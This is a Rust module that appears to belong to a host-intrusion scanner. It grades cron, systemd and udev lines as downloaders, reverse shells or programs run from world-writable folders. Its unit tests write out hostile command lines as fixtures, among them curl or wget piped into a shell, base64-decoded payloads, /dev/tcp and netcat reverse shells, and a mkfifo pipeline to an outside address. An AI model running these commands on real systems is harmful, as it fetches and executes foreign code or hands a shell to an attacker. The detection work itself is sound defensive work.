//! What one line of a script, a table of jobs or a unit would do, if it is nothing good.
//!
//! A reader of words, not a shell: quotes and backslashes that only hide a word are taken away, the
//! words that a command begins with are told from its arguments, and nothing is expanded.
//!
//! Invariant: a folder or a word counts where it is run, not where it is an argument only: a backup
//! that writes to `/tmp` and `rsync -e ssh` are everybody's.

use super::Grade;

/// What fetches something from the network.
const FETCHERS: [&str; 7] = ["curl", "wget", "fetch", "lwp-download", "aria2c", "tftp", "axel"];
/// Shells and interpreters: they run what they are given.
const RUNNERS: [&str; 15] = [
    "sh", "bash", "dash", "ash", "ksh", "zsh", "busybox", "python", "python2", "python3", "perl",
    "php", "ruby", "node", "source",
];
/// Programs that start the program behind them.
const LAUNCHERS: [&str; 17] = [
    "sudo", "nohup", "exec", "setsid", "nice", "ionice", "env", "command", "then", "do", "else",
    "eval", "chroot", "time", "stdbuf", "unbuffer", ".",
];
/// Shells that strangers steer, without their blanks.
const REVERSE: [&str; 14] = [
    "/dev/tcp/",
    "/dev/udp/",
    "bash-i>",
    "sh-i>",
    "sh-i2>",
    "bash-i2>",
    "|sh-i",
    "|bash-i",
    "|/bin/sh-i",
    "|/bin/bash-i",
    "exec:sh",
    "exec:/bin/",
    "exec:bash",
    "pty.spawn(",
];
/// Programs that hand a shell over the network with an option.
const CONNECTORS: [&str; 4] = ["nc", "ncat", "netcat", "nc.traditional"];
/// Where everybody may write.
pub(super) const OPEN: [&str; 5] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/lock/", "/var/lock/"];
/// Longest line that is read, in bytes; what is longer was written by no person.
const LINE_BYTES_MAX: usize = 16 * 1024;

/// What a line of this file would do, if it is nothing good.
pub(super) fn reading_in(path: &str, line: &str) -> Option<(Grade, &'static str)> {
    // The system's tables name a user between the time and the command.
    reading(line, path == "/etc/crontab" || path.starts_with("/etc/cron.d/"))
}

fn reading(line: &str, names_user: bool) -> Option<(Grade, &'static str)> {
    let line = line.get(..line.floor_char_boundary(LINE_BYTES_MAX)).unwrap_or(line).trim();
    if line.is_empty() || line.starts_with('#') || line.starts_with("//") {
        return None;
    }
    // `cu''rl` and `w\get` are the same to a shell.
    let plain: String = line.chars().filter(|c| !"'\"\\".contains(*c)).collect();
    let dense: String = plain.chars().filter(|c| !c.is_whitespace()).collect();
    let dense = dense.to_ascii_lowercase();
    let words = words(&plain, names_user);
    let fetches = words.iter().any(|word| word.runs && FETCHERS.contains(&word.name()))
        || ["urlopen(", "urlretrieve(", "requests.get("].iter().any(|call| dense.contains(call));
    let runs = runs_input(&words) || substitutes(&dense) || dense.contains("exec(");
    let kept = OPEN.iter().any(|folder| plain.contains(folder));
    let made_program = kept && (dense.contains("chmod") || words.iter().any(Word::runs_open));
    if fetches && (runs || made_program) {
        return Some((Grade::Strong, "sign.downloader"));
    }
    if runs && decodes(&dense) {
        return Some((Grade::Strong, "sign.downloader"));
    }
    if REVERSE.iter().any(|word| dense.contains(word)) || connects(&words) {
        return Some((Grade::Strong, "sign.reverse-shell"));
    }
    if words.iter().any(Word::runs_open) || enters_open(&plain) {
        return Some((Grade::Suspicious, "sign.starts-in-tmp"));
    }
    fetches.then_some((Grade::Note, "sign.fetches"))
}

/// A word of a line.
struct Word<'l> {
    text: &'l str,
    /// Whether it stands where a command does, or behind what runs its arguments.
    runs: bool,
    /// Whether a pipe leads into it.
    fed: bool,
}

impl<'l> Word<'l> {
    /// Without its folders.
    fn name(&self) -> &'l str {
        self.text.rsplit('/').next().unwrap_or_default()
    }

    fn is_runner(&self) -> bool {
        let name = self.name();
        let python = name
            .strip_prefix("python")
            .is_some_and(|rest| rest.bytes().all(|b| b.is_ascii_digit() || b == b'.'));
        python || RUNNERS.contains(&name)
    }

    fn runs_open(&self) -> bool {
        let place = OPEN.iter().any(|folder| self.text.starts_with(folder));
        self.runs && place && !self.text.ends_with('/')
    }
}

/// The words of a line, with what is run among them.
fn words(line: &str, names_user: bool) -> Vec<Word<'_>> {
    // A unit's line runs what stands behind `=`; so does `RUN+=` of a rule of udev.
    let (line, unit) = match line.split_once('=') {
        Some((key, rest)) if key.starts_with("Exec") => {
            (rest.trim_start_matches(['-', '@', '+', '!', ':', ' ']), true)
        }
        Some((key, rest)) if key.contains("RUN") => (rest, true),
        _ => (line, false),
    };
    let mut found: Vec<Word<'_>> = Vec::new();
    let mut schedule = if unit { 0 } else { schedule(line, names_user) };
    let (mut runs, mut fed) = (true, false);
    for text in line.split_ascii_whitespace() {
        // The times of a table of jobs, and the user behind them.
        if schedule > 0 {
            schedule -= 1;
            continue;
        }
        for (part, end) in parts(text) {
            if part.is_empty() {
                (runs, fed) = after(end, runs, fed);
                continue;
            }
            let word = Word { text: part, runs, fed };
            let goes_on = word.is_runner() || LAUNCHERS.contains(&word.name());
            // Options of what runs its arguments, and variables before a command, are passed over.
            let passed = part.starts_with('-') || (part.contains('=') && !part.starts_with('/'));
            runs = runs && (goes_on || passed);
            fed = fed && (passed || LAUNCHERS.contains(&word.name()));
            found.push(word);
            (runs, fed) = after(end, runs, fed);
        }
    }
    found
}

/// What the sign behind a word means for the next one.
fn after(end: char, runs: bool, fed: bool) -> (bool, bool) {
    match end {
        '|' => (true, true),
        ';' | '&' | '(' | '`' | '{' => (true, false),
        // What a redirection names is written or read, not run.
        '>' | '<' => (false, false),
        _ => (runs, fed),
    }
}

/// Cuts a word where a shell ends one without a blank.
fn parts(text: &str) -> impl Iterator<Item = (&str, char)> {
    let signs = ['|', ';', '&', '(', ')', '`', '{', '}', '>', '<'];
    text.split_inclusive(signs).map(move |part| match part.chars().next_back() {
        Some(end) if signs.contains(&end) => {
            (part.strip_suffix(end).unwrap_or(part).trim_start_matches('$'), end)
        }
        _ => (part, ' '),
    })
}

/// How many words at the beginning of a line say when it is run, and as whom.
fn schedule(line: &str, names_user: bool) -> usize {
    let mut words = line.split_ascii_whitespace();
    let user = usize::from(names_user);
    if words.clone().next().is_some_and(|word| word.starts_with('@')) {
        return 1 + user;
    }
    let time = |word: &str| {
        let begins = word.starts_with(|c: char| c.is_ascii_digit() || c == '*');
        let names = ["mon", "tue", "wed", "thu", "fri", "sat", "sun", "jan", "dec"];
        begins || names.contains(&word.to_ascii_lowercase().as_str())
    };
    let five = (0..5).all(|_| words.next().is_some_and(time));
    if five { 5 + user } else { 0 }
}

/// Whether a shell or an interpreter gets its program by a pipe.
fn runs_input(words: &[Word<'_>]) -> bool {
    words.iter().any(|word| word.fed && word.runs && word.is_runner())
}

/// `bash <(...)`, `sh -c $(...)`, `eval ...`: what something prints is run.
fn substitutes(dense: &str) -> bool {
    let signs = ["sh<(", "sh-c$(", "sh-c`", "eval$(", "eval`", "source<(", ".<(", "python3-c$("];
    signs.iter().any(|sign| dense.contains(sign))
}

fn decodes(dense: &str) -> bool {
    let signs = ["base64-d", "base64--d", "base32-d", "openssl", "xxd-r", "b64decode("];
    signs.iter().any(|sign| dense.contains(sign))
}

/// `nc -e`, `ncat --exec`, a pipe from `mkfifo` into `nc`.
fn connects(words: &[Word<'_>]) -> bool {
    let connector = |word: &Word<'_>| word.runs && CONNECTORS.contains(&word.name());
    let Some(at) = words.iter().position(connector) else { return false };
    let hands = |word: &Word<'_>| {
        ["--exec", "--sh-exec"].iter().any(|option| word.text.starts_with(option))
            || (word.text.starts_with('-')
                && !word.text.starts_with("--")
                && word.text.contains(['e', 'c'])
                && word.text.len() <= 5)
    };
    let by_option = words.iter().skip(at + 1).any(hands);
    by_option || words.iter().any(|word| word.name() == "mkfifo")
}

/// `cd /tmp && ./x`.
fn enters_open(line: &str) -> bool {
    let enters = OPEN.iter().any(|folder| {
        let folder = folder.trim_end_matches('/');
        line.split_once(&format!("cd {folder}")).is_some_and(|(_, rest)| rest.contains("./"))
    });
    enters && !line.contains("./configure")
}

#[cfg(test)]
mod tests {
    use super::{Grade, reading_in};

    /// Lines of the system's tables have a user, those of a user's own have none.
    fn reading(line: &str) -> Option<(Grade, &'static str)> {
        let user = [" root ", " www-data ", " deploy "].iter().any(|user| line.contains(user));
        reading_in(if user { "/etc/cron.d/x" } else { "/var/spool/cron/x" }, line)
    }

    #[test]
    fn what_is_fetched_and_run_is_strong_in_every_dress() {
        for line in [
            "* * * * * root curl -fsSL http://203.0.113.5/x | sh",
            "*/5 * * * * wget -q -O- http://x/y|bash",
            "@reboot root wget -O /tmp/x http://x && chmod +x /tmp/x && /tmp/x",
            "@daily /usr/bin/curl -s x -o /dev/shm/a; sh /dev/shm/a",
            "* * * * * (curl -s http://x||wget -qO- http://x)|/usr/bin/bash",
            "bash <(curl -s http://x)",
            "sh -c \"$(curl -fsSL http://x)\"",
            "eval `wget -qO- http://x`",
            "cu''rl http://x | b\"\"ash",
            "c\\url http://x | sudo sh",
            "wget -q -O - http://x | nohup python3.11 -",
            "curl -s http://x |env perl",
            "ExecStart=/bin/sh -c 'curl http://x | sh'",
            "python3 -c \"import urllib.request as u;exec(u.urlopen('http://x').read())\"",
            "echo aGk= | base64 -d | sh",
            "echo aGk= | base64 --decode|bash -s",
            "echo 6869 | xxd -r -p | sh",
        ] {
            let found = reading(line);
            assert_eq!(found, Some((Grade::Strong, "sign.downloader")), "{line}");
        }
    }

    #[test]
    fn shells_that_strangers_steer_are_strong() {
        for line in [
            "* * * * * bash -i >& /dev/tcp/203.0.113.5/443 0>&1",
            "* * * * * root nc 203.0.113.5 4444 -e /bin/sh",
            "ncat --exec /bin/bash 203.0.113.5 443",
            "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
            "socat TCP:203.0.113.5:443 EXEC:/bin/bash,pty",
            "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
        ] {
            let found = reading(line).map(|(grade, _)| grade);
            assert_eq!(found, Some(Grade::Strong), "{line}");
        }
    }

    #[test]
    fn programs_that_start_where_everybody_writes_are_suspicious() {
        for line in [
            "ExecStart=-/dev/shm/x -q",
            "ExecStart=/bin/sh /tmp/x.sh",
            "* * * * * /bin/bash -c \"/tmp/x\"",
            "* * * * * root /usr/bin/nohup /dev/shm/.x",
            "@reboot www-data /var/tmp/.a/b",
            "* * * * * deploy /var/tmp/b -q",
            "17 * * * * cd /tmp && ./x",
            "PATH=/bin /var/tmp/x &",
            "/usr/bin/python3 /tmp/x.py",
        ] {
            let found = reading(line);
            assert_eq!(found, Some((Grade::Suspicious, "sign.starts-in-tmp")), "{line}");
        }
    }

    #[test]
    fn what_administrators_write_every_day_is_nothing() {
        for line in [
            "# curl http://x | sh",
            "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
            "find /tmp/ -mtime +7 -delete",
            "ExecStart=/usr/sbin/tmpreaper /tmp/",
            "",
            "30 3 * * * root rsync -a -e ssh /srv/ backup:/srv/",
            "30 3 * * * rsync -e 'ssh -p 22' /srv backup:",
            "0 4 * * * mysqldump db > /tmp/db.sql",
            "0 4 * * * tar czf /tmp/b.tgz /etc",
            "5 0 * * * flock -n /var/lock/x /usr/local/bin/job",
            "alias sh='bash -i'",
            "export TMPDIR=/tmp/build",
            "sync -e",
            "* * * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && certbot -q",
            "if [ -r /tmp/x ]; then rm /tmp/x; fi",
            "PID=$(cat /tmp/x.pid)",
        ] {
            assert_eq!(reading(line), None, "{line}");
        }
        for line in [
            "0 3 * * * root curl https://example.org/ping",
            "0 3 * * * curl -fsS https://example.org/x || shutdown -h now",
            "0 3 * * * curl -s https://example.org/x | sha256sum",
            "0 3 * * * wget -qO- https://example.org/x | shuf",
        ] {
            assert_eq!(reading(line), Some((Grade::Note, "sign.fetches")), "{line}");
        }
    }

    #[test]
    fn endless_and_foreign_lines_are_read_within_the_bound() {
        assert_eq!(reading(&"|".repeat(1 << 20)), None);
        assert_eq!(reading(&"\u{9583}".repeat(1 << 20)), None);
        assert_eq!(reading("((((((`$(&&||;;><"), None);
    }
}
